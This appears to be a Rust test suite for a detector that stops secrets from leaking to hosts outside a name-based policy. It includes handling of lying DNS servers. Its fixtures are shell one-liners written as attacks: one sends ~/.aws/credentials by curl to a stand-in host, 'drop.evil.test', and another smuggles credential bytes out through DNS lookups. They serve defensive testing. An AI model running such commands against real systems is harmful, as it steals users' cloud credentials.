//! Destinations by name: what a name accepts is accepted at the addresses that the job's name server gives for it, and a question is
//! itself a send.

use detector::{
    engine::{Finding, Verdict},
    event::{Body, Outcome as Fate},
};
use detector_tests::{
    canary::Canary,
    name_server::{Manner, NameServer, Segments, Zone, hostile, message::kind},
    namespace::{OTHER_V4, SINK_V4, SINK_V6},
    resolver::Resolver,
    scene::{PORT, Scene},
    watched::Watched,
};
use std::{
    collections::{BTreeMap, BTreeSet},
    net::{IpAddr, Ipv4Addr},
};

type Result = anyhow::Result<()>;

const GOOD: &str = "api.good.test";
const EVIL: &str = "drop.evil.test";

/// A key may be spent at one name, and nowhere else.
const POLICY: &str = "version: 1\nextends: builtin\ndestinations:\n  - { to: [api.good.test], accept: [aws] }\n";

fn zone() -> Zone {
    Zone::new().addresses(GOOD, [SINK_V4, SINK_V6]).addresses(EVIL, [OTHER_V4])
}

/// Sends the key to a host.
fn send(host: &str) -> String {
    format!("cat ~/.aws/credentials | curl -s --max-time 5 -o /dev/null --data-binary @- http://{host}:{PORT}/x; true")
}

fn run(scene: &Scene, mode: &'static str, policy: &str, script: &str) -> anyhow::Result<Watched> {
    let job = scene.job(["bash", "-c", script]).policy(policy).mode(mode);
    Watched::run(scene, &job.resolver(Resolver::default()))
}

fn leaks(run: &Watched) -> Vec<&Finding> {
    run.conclusion.findings.iter().filter(|finding| finding.rule.starts_with("leak")).collect()
}

/// The names that were learned.
fn learned(run: &Watched) -> BTreeSet<&str> {
    let names = run.recording.events.iter().filter_map(|event| match &event.body {
        Body::Name(name) => Some(name.name.as_str()),
        _ => None,
    });
    names.collect()
}

/// The key.
fn key(scene: &Scene) -> &Canary {
    scene.home.canary("aws")
}

#[test]
fn a_key_is_spent_at_its_name() -> Result {
    for mode in ["enforce", "audit"] {
        let scene = Scene::new()?;
        let _server = NameServer::start(&scene.network.sink, zone())?;
        let run = run(&scene, mode, POLICY, &send(GOOD))?;
        assert!(leaks(&run).is_empty(), "{mode}: {:#?}", run.conclusion.findings);
        assert_ne!(run.conclusion.verdict, Verdict::Fail);
        assert!(key(&scene).is_in(&scene.sink.bytes()), "{mode}: the key did not arrive");
        assert!(learned(&run).contains(GOOD));
    }
    Ok(())
}

#[test]
fn a_key_goes_to_no_other_name() -> Result {
    for mode in ["enforce", "audit"] {
        let scene = Scene::new()?;
        let server = NameServer::start(&scene.network.sink, zone())?;
        let run = run(&scene, mode, POLICY, &send(EVIL))?;
        let found = leaks(&run);
        assert_eq!(found.len(), 1, "{mode}: {:#?}", run.conclusion.findings);
        let leak = found[0];
        assert_eq!((leak.rule.as_str(), leak.secret.as_slice()), ("leak", &["aws".to_owned()][..]));
        let to = leak.destination.as_ref().expect("a leak has a destination");
        assert_eq!(to.name.as_deref(), Some(EVIL), "{leak:#?}");
        let passed = leak.enforced.map(|enforced| enforced.outcome) == Some(Fate::Passed);
        assert_eq!(passed, mode == "audit", "{leak:#?}");
        assert_eq!(run.conclusion.verdict, Verdict::Fail);
        assert_eq!(key(&scene).is_in(&scene.sink.bytes()), mode == "audit");
        // In enforce not even the question arrived.
        assert_eq!(server.asked(EVIL) != 0, mode == "audit", "{mode}");
    }
    Ok(())
}

/// The key, spelled in labels.
#[test]
fn a_secret_spelled_in_labels_does_not_leave() -> Result {
    for mode in ["enforce", "audit"] {
        let scene = Scene::new()?;
        let server = NameServer::start(&scene.network.sink, zone().wildcard("*.evil.test", [OTHER_V4]))?;
        let script =
            "key=$(tail -c 42 ~/.aws/credentials | tr -dc A-Za-z0-9); getent ahosts $key.evil.test > /dev/null; true";
        let run = run(&scene, mode, POLICY, script)?;
        assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{mode}: {:#?}", run.conclusion.findings);
        let spelled = server.questions().iter().any(|question| question.name.ends_with("evil.test"));
        assert_eq!(spelled, mode == "audit");
    }
    Ok(())
}

#[test]
fn aliases_are_the_asked_names() -> Result {
    let scene = Scene::new()?;
    let zone =
        Zone::new().cname(GOOD, "edge.cdn.test").cname("edge.cdn.test", "node.cdn.test").a("node.cdn.test", [SINK_V4]);
    let _server = NameServer::start(&scene.network.sink, zone)?;
    let good = run(&scene, "enforce", POLICY, &send(GOOD))?;
    assert!(leaks(&good).is_empty(), "{:#?}", good.conclusion.findings);
    assert!(key(&scene).is_in(&scene.sink.bytes()));
    // Of the alias itself policy says nothing.
    let scene = Scene::new()?;
    let zone = Zone::new().cname(EVIL, GOOD).a(GOOD, [SINK_V4]);
    let _server = NameServer::start(&scene.network.sink, zone)?;
    let evil = run(&scene, "enforce", POLICY, &send(EVIL))?;
    assert_eq!(leaks(&evil).len(), 1);
    assert!(!key(&scene).is_in(&scene.sink.bytes()));
    Ok(())
}

/// An answer over TCP counts where it is whole in one segment. Where it is not, nothing is learned and nothing gets out; unless the
/// kernel put the segments together before anybody saw them (GRO).
#[test]
fn answers_over_tcp_are_whole_or_nothing() -> Result {
    for segments in [Segments::One, Segments::Two, Segments::Cut] {
        let scene = Scene::new()?;
        let manner = Manner { segments, truncated: true, ..Manner::default() };
        let _server = NameServer::start(&scene.network.sink, zone().manner(manner))?;
        let run = run(&scene, "enforce", POLICY, &send(GOOD))?;
        let arrived = key(&scene).is_in(&scene.sink.bytes());
        assert!(arrived || segments != Segments::One, "{:#?}", run.conclusion.findings);
        assert!(!arrived || learned(&run).contains(GOOD) && leaks(&run).is_empty(), "{segments:?}");
    }
    Ok(())
}

/// What a name server may not say is not believed, and what is only odd is.
#[test]
fn hostile_answers_are_not_believed_and_odd_ones_are() -> Result {
    const LIE: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 66);
    const ODD: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 77);
    let policy =
        "version: 1\nextends: builtin\ndestinations:\n  - { to: ['**.lie.test', '**.odd.test'], accept: [aws] }\n";
    let scene = Scene::new()?;
    // Short labels of letters are not redacted.
    let letter = |n: usize| char::from(b"abcdefghijklmnopqrstuvwxyz"[n % 26]);
    let host = |n: usize, top: &str| format!("{}{}.{top}.test", letter(n / 26), letter(n));
    let mut zone = Zone::new();
    for (cases, top, address) in [(hostile::all(), "lie", LIE), (hostile::odd_but_good(), "odd", ODD)] {
        for (n, case) in cases.iter().enumerate() {
            zone = zone.raw(&host(n, top), move |question| case.answers(question, address));
        }
    }
    let server = NameServer::start(&scene.network.sink, zone)?;
    let lies: Vec<_> = (0..hostile::all().len()).map(|n| host(n, "lie")).collect();
    let odd: Vec<_> = (0..hostile::odd_but_good().len()).map(|n| host(n, "odd")).collect();
    let names = [lies.as_slice(), &odd].concat().join(" ");
    let script = format!("for name in {names}; do getent ahostsv4 $name & done; wait; true");
    let run = run(&scene, "enforce", policy, &script)?;
    for name in lies.iter().chain(&odd) {
        assert_ne!(server.asked(name), 0, "{name} was not asked for");
    }
    let mut believed: BTreeMap<&str, BTreeSet<IpAddr>> = BTreeMap::new();
    for event in &run.recording.events {
        if let Body::Name(name) = &event.body {
            believed.entry(&name.name).or_default().extend(&name.addresses);
        }
    }
    let lied: Vec<_> = believed.iter().filter(|(_, addresses)| addresses.contains(&LIE.into())).collect();
    assert!(lied.is_empty(), "{lied:?}");
    for (n, case) in hostile::odd_but_good().iter().enumerate() {
        let expected: BTreeSet<_> = case.addresses(kind::A, ODD).into_iter().collect();
        assert_eq!(believed.get(host(n, "odd").as_str()), Some(&expected), "{}: {}", case.name, case.why);
    }
    assert!(run.recording.footer.counters["answers-refused"] >= lies.len() as u64 / 2);
    Ok(())
}
